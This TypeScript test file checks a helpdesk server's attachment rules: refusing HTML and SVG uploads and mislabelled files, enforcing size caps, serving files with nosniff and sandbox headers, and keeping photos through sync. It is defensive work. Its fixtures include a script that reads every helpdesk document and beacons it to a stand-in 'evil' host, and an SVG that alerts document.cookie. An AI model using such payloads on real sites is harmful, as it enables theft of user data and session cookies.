import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Ticket } from '../../core/schemas';
import { appendEntries } from '../../core/ticket';
import { device, makeTicket, PASSWORD, provision } from '../support/district';
import { ADMIN_PASSWORD, type RunningServer, STORE_MODES, startServer, startServerOn } from '../support/server';

let server: RunningServer;

beforeAll(async () => {
	server = await startServer();
	await provision(server);
});
afterAll(async () => {
	await server?.dispose();
});

const basic = (username: string) =>
	`Basic ${Buffer.from(`${username}:${username === 'admin' ? ADMIN_PASSWORD : PASSWORD}`).toString('base64')}`;

async function call(path: string, as: string, init: RequestInit = {}, on = server) {
	return fetch(`${on.url}${path}`, { ...init, headers: { 'content-type': 'application/json', authorization: basic(as), ...(init.headers ?? {}) } });
}

type Row = { ok?: boolean; id: string; rev?: string; error?: string; reason?: string };
async function bulkDocs(as: string, docs: object[], newEdits = true, on = server): Promise<Row[]> {
	const response = await call('/db/helpdesk/_bulk_docs', as, { method: 'POST', body: JSON.stringify({ docs, new_edits: newEdits }) }, on);
	expect(response.status).toBe(201);
	return (await response.json()) as Row[];
}

const PNG = Buffer.from(
	'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==',
	'base64'
);
const PDF = Buffer.from('%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n');
const HTML = Buffer.from('<html><script>fetch("/db/helpdesk/_all_docs").then(r=>r.text()).then(t=>navigator.sendBeacon("//evil",t))</script>');
const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>');

const file = (contentType: string, data: Buffer) => ({ content_type: contentType, data: data.toString('base64') });
const createdEntry = (ticket: Ticket) => ticket.history[0].id;

describe('what a person may attach', () => {
	it('refuses a requester’s HTML and SVG as forbidden, with a reason, and stores neither', async () => {
		for (const newEdits of [true, false]) {
			const html = makeTicket('ann');
			const svg = makeTicket('ann');
			const docs = [
				{ ...html, _attachments: { [`${createdEntry(html)}.1.png`]: file('text/html', HTML) } },
				{ ...svg, _attachments: { 'drawing.svg': file('image/svg+xml', SVG) } }
			].map((d, i) => (newEdits ? d : { ...d, _rev: `1-abc${i}` }));
			const rows = await bulkDocs('ann', docs, newEdits);
			for (const [i, row] of rows.entries()) {
				expect(row.error).toBe('forbidden');
				expect(row.reason).toMatch(/Only photos \(PNG, JPEG or WebP\) and PDF files can be attached; .* is (text\/html|image\/svg\+xml)\./);
				expect((await call(`/db/helpdesk/${docs[i]._id}`, 'coord')).status).toBe(404);
			}
		}
	});

	it('refuses a file labelled image/png whose bytes are HTML', async () => {
		const ticket = makeTicket('ann');
		const name = `${createdEntry(ticket)}.1.png`;
		const [row] = await bulkDocs('ann', [{ ...ticket, _attachments: { [name]: file('image/png', HTML) } }]);
		expect(row.error).toBe('forbidden');
		expect(row.reason).toBe(`The file ${name} is labelled image/png but its contents are not a PNG image.`);
	});

	it('refuses a file over the size cap, and a ticket whose files add up to more than its cap', async () => {
		const ticket = makeTicket('cat', { building: 'south' });
		const big = Buffer.alloc(14 * 1024 * 1024);
		PNG.copy(big);
		const [row] = await bulkDocs('cat', [{ ...ticket, _attachments: { [`${createdEntry(ticket)}.1.png`]: file('image/png', big) } }]);
		expect(row.error).toBe('forbidden');
		expect(row.reason).toMatch(/is 14 MB; a file can be at most 5 MB/);
		const four = file('image/png', big.subarray(0, 4 * 1024 * 1024));
		const files = Object.fromEntries([1, 2, 3].map((n) => [`${createdEntry(ticket)}.${n}.png`, four]));
		const [many] = await bulkDocs('cat', [{ ...ticket, _attachments: files }]);
		expect(many.error).toBe('forbidden');
		expect(many.reason).toMatch(/add up to 12 MB; a ticket can carry at most 10 MB/);
		expect((await call(`/db/helpdesk/${ticket._id}`, 'coord')).status).toBe(404);
	});

	it('refuses files on documents other than tickets', async () => {
		const kb = { _id: 'kb:with-file', type: 'kb', kind: 'faq', title: 'A title', body: 'A body.', updatedAt: new Date().toISOString(), author: 'coord' };
		const [row] = await bulkDocs('coord', [{ ...kb, _attachments: { 'a.1.png': file('image/png', PNG) } }]);
		expect(row.error).toBe('forbidden');
		expect(row.reason).toMatch(/Only tickets carry files/);
	});
});

describe('how files are served', () => {
	it('stores a valid PNG and serves it inline, sniffing off, in a sandbox; a PDF as a download', async () => {
		const ticket = makeTicket('ann');
		const png = `${createdEntry(ticket)}.1.png`;
		const pdf = `${createdEntry(ticket)}.2.pdf`;
		const [row] = await bulkDocs('ann', [{ ...ticket, _attachments: { [png]: file('image/png', PNG), [pdf]: file('application/pdf', PDF) } }]);
		expect(row.ok, JSON.stringify(row)).toBe(true);
		for (const as of ['ann', 'tech-n', 'coord']) {
			const image = await call(`/db/helpdesk/${ticket._id}/${png}`, as);
			expect(image.status).toBe(200);
			expect(image.headers.get('content-type')).toBe('image/png');
			expect(image.headers.get('content-disposition')).toBe(`inline; filename="${png}"`);
			expect(image.headers.get('x-content-type-options')).toBe('nosniff');
			expect(image.headers.get('content-security-policy')).toBe('sandbox');
			expect(Buffer.from(await image.arrayBuffer()).equals(PNG)).toBe(true);
		}
		const document = await call(`/db/helpdesk/${ticket._id}/${pdf}?rev=${row.rev}`, 'ann');
		expect(document.headers.get('content-type')).toBe('application/pdf');
		expect(document.headers.get('content-disposition')).toBe(`attachment; filename="${pdf}"`);
		expect(document.headers.get('x-content-type-options')).toBe('nosniff');
		expect(document.headers.get('content-security-policy')).toBe('sandbox');
		expect((await call(`/db/helpdesk/${ticket._id}/${png}`, 'bob')).status).toBe(404);
	});
});

describe.each(STORE_MODES)('files through sync on the $name', ({ remote }) => {
	let store: RunningServer;
	beforeAll(async () => {
		store = await startServerOn(remote);
		await provision(store);
	});
	afterAll(async () => store?.dispose());

	it('keeps every photo when two devices add one to the same ticket at once, and nobody can remove one', async () => {
		const ann = device(store, 'ann');
		const tech = device(store, 'tech-n');
		const ticket = makeTicket('ann');
		await ann.local.put(ticket);
		await ann.push();
		await tech.pull();
		const now = new Date().toISOString();
		const withPhoto = async (d: ReturnType<typeof device>, by: string) => {
			const stored = (await d.local.get(ticket._id)) as unknown as Ticket;
			const entry = `${ticket.number}-${by}-photo`;
			const noted = appendEntries(stored, [{ id: entry, at: now, by, kind: 'note', text: `Photo from ${by}.` }]);
			const files = { ...(stored._attachments ?? {}), [`${entry}.1.png`]: { content_type: 'image/png', data: PNG.toString('base64') } };
			await d.local.put({ ...noted, _attachments: files });
			return `${entry}.1.png`;
		};
		const annsPhoto = await withPhoto(ann, 'ann');
		const techsPhoto = await withPhoto(tech, 'tech-n');
		const pushed = await Promise.all([ann.push(), tech.push()]);
		for (const result of pushed) expect(result.doc_write_failures).toBe(0);
		await Promise.all([ann.pull(), tech.pull()]);
		const onServer = (await (await call(`/db/helpdesk/${ticket._id}?conflicts=true`, 'coord', {}, store)).json()) as Ticket & { _conflicts?: string[] };
		expect(onServer._conflicts ?? []).toEqual([]);
		expect(Object.keys(onServer._attachments ?? {}).sort()).toEqual([annsPhoto, techsPhoto].sort());
		for (const d of [ann, tech]) {
			const local = (await d.local.get(ticket._id)) as unknown as Ticket;
			expect(Object.keys(local._attachments ?? {}).sort()).toEqual([annsPhoto, techsPhoto].sort());
			expect(Buffer.from((await d.local.getAttachment(ticket._id, techsPhoto)) as Buffer).equals(PNG)).toBe(true);
		}
		// A device sends every file again with each push: what it already had is accepted as it is.
		const again = (await tech.local.get(ticket._id)) as unknown as Ticket;
		await tech.local.put(appendEntries(again, [{ id: `${ticket.number}-tech-again`, at: new Date().toISOString(), by: 'tech-n', kind: 'note', text: 'Checked the cable.' }]));
		expect((await tech.push()).doc_write_failures).toBe(0);
		const current = (await (await call(`/db/helpdesk/${ticket._id}`, 'ann', {}, store)).json()) as Ticket;
		const { [techsPhoto]: _removed, ...rest } = current._attachments ?? {};
		const [row] = await bulkDocs('ann', [{ ...current, _attachments: rest }], true, store);
		expect(row.error).toBe('forbidden');
		expect(row.reason).toBe(`The file ${techsPhoto} cannot be removed: a ticket keeps its files. Save again with it.`);
		await Promise.all([ann.local.close(), tech.local.close()]);
	});
});

describe('_local documents', () => {
	it('refuses a _local document over 64 KB with a reason, and still keeps a checkpoint', async () => {
		// 100 KB, not the 19 MB of the report: the refusal comes from the declared length before the body is read, and a
		// body larger than the socket's buffers would make the client's write fail (EPIPE) when the server closes early.
		const huge = JSON.stringify({ history: [{ last_seq: 1 }], junk: 'x'.repeat(100 * 1024) });
		const refused = await call('/db/helpdesk/_local/stash', 'cat', { method: 'PUT', body: huge });
		expect(refused.status).toBe(413);
		expect(await refused.json()).toEqual({ error: 'too_large', reason: 'A _local document (a sync checkpoint) is at most 64 KB.' });
		expect((await call('/db/helpdesk/_local/stash', 'cat')).status).toBe(404);
		const checkpoint = { session_id: 'abc', history: [{ last_seq: 12, session_id: 'abc' }], replicator: 'pouchdb', version: 1 };
		const saved = await call('/db/helpdesk/_local/checkpoint', 'cat', { method: 'PUT', body: JSON.stringify(checkpoint) });
		expect(saved.status).toBe(201);
		expect(await (await call('/db/helpdesk/_local/checkpoint', 'cat')).json()).toMatchObject(checkpoint);
	});
});
